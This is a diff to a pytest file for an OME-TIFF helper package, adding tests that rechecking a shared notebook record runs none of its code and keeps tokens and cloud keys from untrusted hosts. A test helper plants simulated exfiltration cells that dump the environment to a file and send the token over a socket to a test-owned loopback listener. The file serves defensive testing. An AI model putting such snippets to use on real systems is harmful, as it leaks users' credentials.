@@ -17,11 +17,12 @@ import nbformat
 import pytest
 from faultserver import FaultServer
 
-from ometiff_helpers import __version__
+from ometiff_helpers import __version__, records
 from ometiff_helpers.__main__ import main
 from ometiff_helpers.demo import DEMO_NAME, demo_path
 from ometiff_helpers.errors import OmeTiffError
-from ometiff_helpers.records import core as records
+from ometiff_helpers.records import notebook as record_notebook
+from ometiff_helpers.records.recheck import _scrub_change
 from ometiff_helpers.report import inspect
 
 REPO = Path(__file__).resolve().parents[1]
@@ -39,6 +40,12 @@ def _assert_no_token(text: str | bytes) -> None:
     blob = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
     for form in TOKEN_FORMS:
         assert form not in blob
+
+
+@pytest.fixture(autouse=True)
+def _trust_loopback(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The records here name this test's own loopback server: the user vouches for it."""
+    monkeypatch.setenv("OMETIFF_TRUSTED_HOSTS", "127.0.0.1")
 
 
 # --- served files --------------------------------------------------------------------------------------------------
@@ -415,9 +422,9 @@ def test_default_record_path_is_named_after_the_file() -> None:
 def test_records_module_imports_without_notebook_packages() -> None:
     code = (
         "import sys\n"
-        "for name in ('nbformat', 'nbclient', 'jupytext', 'IPython', 'pandas'):\n"
+        "for name in ('nbformat', 'nbclient', 'jupytext', 'nbval', 'IPython', 'pandas'):\n"
         "    sys.modules[name] = None\n"
-        "import ometiff_helpers.records.core, ometiff_helpers.__main__\n"
+        "import ometiff_helpers.records.recheck, ometiff_helpers.__main__\n"
         "print('ok')\n"
     )
     run = subprocess.run(
@@ -464,8 +471,155 @@ def test_a_pasted_token_with_spaces_is_scrubbed_in_the_form_that_was_sent() -> N
         ("where()", [_stream(f"token {sent}\nquoted {quote(sent, safe='')}\n")]),
         ("x", [_html(f"<b>{quote(sent, safe='-._~')}</b>", plain=f"as pasted:{pasted}")]),
     )
-    saved = nbformat.writes(records._sanitise_for_saving(nb, pasted))
+    saved = nbformat.writes(record_notebook.sanitise_for_saving(nb, pasted))
     _assert_no_token(saved)
     assert pasted.strip() not in saved and saved.count("***") >= 4
-    change = records._scrub_change(records.CellChange(1, f"title {sent}", "output", (f"- {sent}",)), pasted)
+    change = _scrub_change(
+        records.CellChange(1, f"title {sent}", "output", (f"- {sent}",)), record_notebook.secret_forms(pasted)
+    )
     assert sent not in change.title + "".join(change.diff)
+
+
+# --- a record is data: rechecking one never runs its code ----------------------------------------------------------
+
+
+def _tampered(record: Path, tmp_path: Path, mark: Path, port: int) -> Path:
+    """The record with two code cells rewritten, as someone who shares a record could: one writes the environment
+    (OMETIFF_TOKEN, cloud keys) to ``mark``, one connects to a listener on ``port``; plus a cell of their own."""
+    nb = nbformat.read(record, as_version=4)
+    summary = next(
+        c for c in nb.cells if c.cell_type == "code" and c.source == "tables.summary_table(report)"
+    )
+    summary.source = f"import os, pathlib\npathlib.Path({str(mark)!r}).write_text(repr(dict(os.environ)))"
+    findings = next(c for c in nb.cells if c.cell_type == "code" and "findings_table" in c.source)
+    findings.source = (
+        "import os, socket\n"
+        f"socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(os.environ['OMETIFF_TOKEN'].encode())"
+    )
+    extra = nbformat.v4.new_code_cell(f"open({str(mark)!r}, 'a').write('ran')")
+    nb.cells.insert(3, extra)
+    out = tmp_path / "shared-with-you.ipynb"
+    nbformat.write(nb, out)
+    return out
+
+
+def test_recheck_of_a_tampered_record_runs_none_of_its_code(
+    record: Path, server: FaultServer, tmp_path: Path, monkeypatch
+) -> None:
+    """Code cells edited to steal the token (to a file, to a socket) do not run: the packaged notebook re-reads the
+    file, the token reaches the HTTP server only, and the recheck says the record was altered, with no output
+    difference (the outputs were left as recorded)."""
+    import socket
+
+    mark = tmp_path / "stolen-environment.txt"
+    monkeypatch.setenv("OMETIFF_TOKEN", TOKEN)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "CANARYaws-7d2f")
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(4)
+        tampered = _tampered(record, tmp_path, mark, listener.getsockname()[1])
+        before = len(server.log)
+        result = records.recheck(tampered)
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):  # nobody connected
+            listener.accept()
+    assert not mark.exists()
+    assert result.status is records.RecheckStatus.ALTERED
+    assert len(result.altered) == 3
+    assert any("summary" not in a and "pathlib" in a for a in result.altered)
+    assert result.cells == () and result.headline == () and result.error is None
+    text = str(result)
+    assert "ALTERED" in text and "None of the record's code ran" in text
+    _assert_no_token(text)
+    assert "CANARYaws" not in text
+    served = server.log[before:]
+    # the token reached the server, which let the reads in (a 403 would be a wrong token; probes get other answers)
+    assert [r.status for r in served].count(206) >= 3 and 403 not in {r.status for r in served}
+
+
+def test_the_kernel_gets_a_minimal_environment(tmp_path: Path, monkeypatch) -> None:
+    """Only what Python, Jupyter and HTTPS need, plus OMETIFF_TOKEN: no cloud keys, no other secrets."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "CANARYaws-7d2f")
+    monkeypatch.setenv("GITHUB_TOKEN", "CANARYgh-1")
+    monkeypatch.setenv("OMETIFF_URL", "https://elsewhere.example/x.tif")
+    monkeypatch.setenv("LC_ALL", "C.UTF-8")
+    env = record_notebook.kernel_env(TOKEN)
+    assert env["OMETIFF_TOKEN"] == TOKEN and env["PATH"] == os.environ["PATH"] and env["LC_ALL"] == "C.UTF-8"
+    assert not {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OMETIFF_URL"} & set(env)
+    assert "OMETIFF_TOKEN" not in record_notebook.kernel_env(None)
+    # and the executor hands exactly that to the kernel
+    nb = nbformat.v4.new_notebook()
+    nb.cells.append(
+        nbformat.v4.new_code_cell("import os, sys\nprint(sorted(os.environ))\nprint(sys.executable)")
+    )
+    record_notebook.execute_notebook(nb, cwd=tmp_path, token=TOKEN, timeout=120)
+    printed = nb.cells[0].outputs[0]["text"]
+    names, executable = printed.splitlines()[:2]
+    assert "'OMETIFF_TOKEN'" in names and "'PATH'" in names
+    assert "AWS_SECRET_ACCESS_KEY" not in names and "GITHUB_TOKEN" not in names and "OMETIFF_URL" not in names
+    assert executable == sys.executable  # the kernel is this interpreter, whatever kernelspecs are installed
+
+
+def test_the_packaged_template_is_the_reviewed_notebook() -> None:
+    """record/recheck run the copy shipped in the package; tools/build_notebooks.py makes it from notebooks/."""
+    for name in ("inspect_remote_ometiff.py", "sanitize.cfg"):
+        assert (records.template_path().parent / name).read_bytes() == (
+            REPO / "notebooks" / name
+        ).read_bytes()
+    assert records.SANITIZE_CFG.parent == records.template_path().parent
+    with pytest.raises(OmeTiffError, match="ships no notebook template"):
+        records.template_path("something_else.ipynb")
+
+
+def test_the_facts_come_from_the_report_the_tables_show(record: Path) -> None:
+    """The facts cell follows the cell that makes ``report`` and reads nothing itself."""
+    nb = nbformat.read(record, as_version=4)
+    at = next(i for i, c in enumerate(nb.cells) if records.FACTS_TAG in c.metadata.get("tags", []))
+    assert "RecordFacts.from_report(report)" in nb.cells[at].source
+    assert "report = app.run(" in nb.cells[at - 1].source
+
+
+def test_a_local_file_is_recorded_by_a_relative_path(tmp_path: Path) -> None:
+    from ometiff_helpers.records.make import check_location, record_location
+
+    (tmp_path / "data").mkdir()
+    image = tmp_path / "data" / "x.ome.tif"
+    location, token = record_location(str(image), None, tmp_path / "records")
+    assert location == os.path.join("..", "data", "x.ome.tif") and token is None
+    assert record_location(None, None, tmp_path) == (records.DEMO, None)
+    assert check_location(location) == location
+    for bad in (["x"], "a\nb", "ftp://h/x.tif", "https://h/x.tif?token=CANARYt"):
+        with pytest.raises(OmeTiffError) as info:
+            check_location(bad)
+        assert "CANARY" not in str(info.value)
+
+
+def test_a_record_of_a_local_file_keeps_no_absolute_path(demo_bytes: bytes, tmp_path: Path) -> None:
+    """A record of a local file names it relative to the record (and still rechecks beside it)."""
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data" / "scan.ome.tif").write_bytes(demo_bytes)
+    out = tmp_path / "records" / "scan.ipynb"
+    records.make_record(str(tmp_path / "data" / "scan.ome.tif"), out)
+    text = out.read_text(encoding="utf-8")
+    assert str(tmp_path) not in text and "/tmp" not in text
+    assert records.record_info(records.read_record(out))["url"] == os.path.join("..", "data", "scan.ome.tif")
+    assert records.recheck(out).status is records.RecheckStatus.SAME
+
+
+def test_recheck_sends_no_token_to_a_host_only_the_record_names(
+    record: Path, server: FaultServer, capsys, monkeypatch
+) -> None:
+    """A shared record may name any server: without the user vouching for its host, the token is not sent there."""
+    monkeypatch.delenv("OMETIFF_TRUSTED_HOSTS")
+    monkeypatch.setenv("OMETIFF_TOKEN", TOKEN)
+    before = len(server.log)
+    status = main(["recheck", str(record)])
+    out, err = capsys.readouterr()
+    assert status == 2
+    assert "names the server 127.0.0.1:" in err and "--trust-record-host" in err, err
+    assert len(server.log) == before  # not one request: the token went nowhere
+    _assert_no_token(out + err)
+    status = main(["recheck", str(record), "--trust-record-host"])
+    out, err = capsys.readouterr()
+    assert status == 0, out + err
+    assert len(server.log) > before
